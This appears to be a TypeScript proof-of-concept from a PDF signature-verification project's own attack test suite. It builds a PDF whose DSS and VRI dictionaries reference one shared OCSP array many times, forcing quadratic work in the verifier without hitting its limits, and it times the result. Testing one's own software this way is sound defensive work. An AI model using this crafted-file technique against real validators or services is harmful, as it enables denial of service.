// D3: the one DSS reading (src/evidence/dss-items.ts) walks every revision's DSS, every array of it and of every VRI
// entry, entry by entry; it de-duplicates *streams* (by object and defining revision) but not the dictionaries and
// arrays that list them. A VRI of E entries whose /OCSP is one shared array of R references to one junk stream
// costs E x R steps per revision, and a DSS inherited unchanged by later revisions is walked again for each.
// Nothing of it decodes twice or counts against maxValidationDataItems (one stream, read once), so no limit stops it.
//   npx tsx scripts/attack-s6/dss-repeat.ts [flood|honest] [E] [R] [revisions]
// flood: samples/valid/archive.pdf plus one revision with such a DSS (default E 20,000, R 1,000), then `revisions`
// (default 1) more revisions that each rewrite the DSS dictionary unchanged. honest: the same with E = 1.
// Prints the file size and the wall time of one `verify`.
import { statSync } from "node:fs";
import { NumberAllocator, appendUpdate, arr, dict, name, ref, withEntry, type NewObject } from "../../src/augment/writer.js";
import { parsePdf } from "../../src/input/pdf/index.js";
import { rawGet, type PdfObject } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { sample, save, show, verify, work } from "../attack36/lib.js";

const mode = process.argv[2] ?? "flood";
if (!["flood", "honest"].includes(mode)) throw new Error(`mode: flood|honest, not ${mode}`);
const E = mode === "honest" ? 1 : Number(process.argv[3] ?? 20_000);
const R = Number(process.argv[4] ?? 1_000);
const REVS = Number(process.argv[5] ?? 1);

function withRepeatedDss(pdf: Uint8Array): Uint8Array {
  const doc = parsePdf(wholeSource(pdf), resolveLimits());
  const view = doc.latest();
  const alloc = new NumberAllocator(doc);
  const root = rawGet(view.trailer, "Root");
  if (root?.kind !== "ref") throw new Error("no /Root reference");
  const objects: NewObject[] = [];
  const junk = alloc.take();
  objects.push({ num: junk, stream: new Uint8Array([0x30, 0x03, 0x0a, 0x01, 0x03]) }); // an OCSPResponse "tryLater"
  const shared = alloc.take();
  objects.push({ num: shared, value: arr(Array.from({ length: R }, () => ref(junk))) });
  const vri: Record<string, PdfObject> = {};
  for (let i = 0; i < E; i++) vri[`K${i.toString(16).toUpperCase()}`] = dict({ OCSP: ref(shared) });
  const vriNum = alloc.take();
  objects.push({ num: vriNum, value: dict(vri) });
  const dssNum = alloc.take();
  objects.push({ num: dssNum, value: dict({ Type: name("DSS"), OCSPs: ref(shared), VRI: ref(vriNum) }) });
  objects.push({ num: root.num, gen: root.gen, value: withEntry(view.catalog(), "DSS", ref(dssNum)) });
  return appendUpdate(doc, objects, alloc).bytes;
}

/** One more revision that writes the DSS dictionary again, unchanged. */
function again(pdf: Uint8Array): Uint8Array {
  const doc = parsePdf(wholeSource(pdf), resolveLimits());
  const view = doc.latest();
  const alloc = new NumberAllocator(doc);
  const raw = rawGet(view.catalog(), "DSS");
  const d = view.resolve(raw);
  if (raw?.kind !== "ref" || d?.kind !== "dict") throw new Error("no DSS");
  return appendUpdate(doc, [{ num: raw.num, gen: raw.gen, value: d }], alloc).bytes;
}

let pdf = withRepeatedDss(sample("valid/archive.pdf"));
for (let i = 0; i < REVS; i++) pdf = again(pdf);
const file = save(work(`s6-d3-${mode}`), "archive.pdf", pdf);
console.log(
  `wrote ${file} (${mode}): a VRI of ${E} entries sharing one /OCSP array of ${R} references to one stream, then ${REVS} revision(s) rewriting the DSS; ${statSync(file).size} bytes`,
);
const t0 = Date.now();
const v = verify(file);
console.log(`== verify took ${((Date.now() - t0) / 1000).toFixed(1)} s`);
show(mode, v);
